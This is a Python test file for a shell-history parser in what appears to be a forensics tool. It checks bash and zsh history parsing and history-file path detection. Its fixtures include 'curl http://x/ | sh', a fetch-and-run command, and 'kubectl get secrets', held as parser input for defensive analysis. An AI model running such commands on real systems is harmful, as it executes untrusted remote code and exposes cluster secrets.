# SPDX-License-Identifier: Apache-2.0
"""Histories of bash with and without times, of zsh, and others."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from memir.kube.cached_file import CachedFile
from memir.kube.shell_history import commands, is_history


def rows(data: bytes) -> list[tuple[int | None, int | None, str | None, list[str]]]:
    return [(line.sequence, line.time, line.text, line.fields) for line in commands(CachedFile([data]))]


def test_bash() -> None:
    assert rows(b"id\n#1795472904\ncurl http://x/ | sh\n\n# a comment\nls\n") == [
        (1, None, "id", []),
        (2, 1_795_472_904_000_000, "curl http://x/ | sh", []),
        (3, None, "# a comment", []),
        (4, None, "ls", []),
    ]


def test_zsh() -> None:
    assert rows(b": 1795472904:12;kubectl get secrets\nplain\n") == [
        (1, 1_795_472_904_000_000, "kubectl get secrets", ["duration=12"]),
        (2, None, "plain", []),
    ]


def test_paths() -> None:
    for path in ("/root/.bash_history", "/home/u/.ash_history", "/root/.zsh_history", "/root/.histfile"):
        assert is_history(path)
    assert not is_history("/root/bash_history") and not is_history("/usr/sbin/pwhistory_helper")


@given(st.binary(max_size=4096))
def test_any_bytes(data: bytes) -> None:
    assert [sequence for sequence, *_ in rows(data)] == list(range(1, len(rows(data)) + 1))
